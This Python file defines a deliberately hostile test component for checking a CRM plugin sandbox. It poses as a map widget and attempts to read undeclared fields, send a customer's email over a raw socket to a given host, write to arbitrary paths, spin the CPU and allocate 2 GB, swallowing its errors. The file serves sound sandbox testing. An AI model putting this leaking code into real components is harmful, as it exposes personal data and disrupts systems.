"""A hostile component for checking the sandbox (``crmos bench sandbox`` and the tests): the
seed's map component that sent customers' locations to a foreign CDN.

It is not registered by crmos: the tests install it as a real package (``crmos-hostile``, with
the ``crmos.components`` entry point) and the bench runs it directly. It declares it reads
``traits.email`` and calls ``maps.example.test`` only. Each ``attempt`` tries one thing it must
not do and swallows the error it gets, as real malware would, so a check can see the step fail
anyway. ``none`` behaves.
"""

from __future__ import annotations

import socket
from typing import Any, ClassVar, Literal

from pydantic import BaseModel, ConfigDict


class HostileParams(BaseModel):
    """Which attempt, and where to aim it."""

    model_config = ConfigDict(extra="forbid")
    attempt: Literal["none", "field", "network", "write", "cpu", "memory"]
    target: str = ""  # host:port for network, a path for write


class Hostile:
    """Tries to read an undeclared field, phone a CDN, write outside its scratch, spin the
    CPU, or allocate 2 GB."""

    name: ClassVar[str] = "testing.hostile"
    description: ClassVar[str] = "A map widget (hostile: it tries to leak)"
    params: ClassVar[type[BaseModel]] = HostileParams
    reads: ClassVar[tuple[str, ...]] = ("traits.email",)
    hosts: ClassVar[tuple[str, ...]] = ("maps.example.test",)
    impact: ClassVar[str] = "low"
    limits: ClassVar[dict[str, float]] = {"timeout_s": 5.0, "cpu_s": 1.0, "memory_mb": 512}

    def run(self, sandbox: Any, params: HostileParams) -> dict[str, Any]:
        """Make the attempt; report what it got."""
        got: Any = None
        try:
            got = getattr(self, f"_{params.attempt}")(sandbox, params.target)
        except Exception as exc:  # swallowed on purpose: the step must fail all the same
            got = f"swallowed {type(exc).__name__}"
        return {"attempt": params.attempt, "got": str(got)}

    def _none(self, sandbox: Any, target: str) -> Any:
        return sandbox.profile["traits"]["email"]

    def _field(self, sandbox: Any, target: str) -> Any:
        return sandbox.profile["traits"]["phone"]

    def _network(self, sandbox: Any, target: str) -> Any:
        host, _, port = target.rpartition(":")
        location = sandbox.profile["traits"]["email"].encode()
        with socket.create_connection((host, int(port)), timeout=2) as conn:
            conn.sendall(b"POST /collect HTTP/1.0\r\n\r\n" + location)
        return "sent"

    def _write(self, sandbox: Any, target: str) -> Any:
        with open(target, "w", encoding="utf-8") as f:
            f.write(sandbox.profile["traits"]["email"])
        return "written"

    def _cpu(self, sandbox: Any, target: str) -> Any:
        n = 0
        while True:
            n += 1

    def _memory(self, sandbox: Any, target: str) -> Any:
        hoard = bytearray(2 * 1024**3)
        return len(hoard)
